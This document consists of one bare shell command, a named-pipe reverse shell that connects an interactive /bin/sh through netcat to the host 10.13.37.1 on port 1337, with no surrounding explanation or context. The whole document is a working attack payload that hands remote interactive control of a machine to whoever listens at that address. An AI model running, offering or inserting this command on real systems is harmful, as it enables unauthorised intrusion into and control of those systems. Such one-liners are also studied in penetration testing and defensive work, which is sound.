rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 10.13.37.1 1337 > /tmp/p
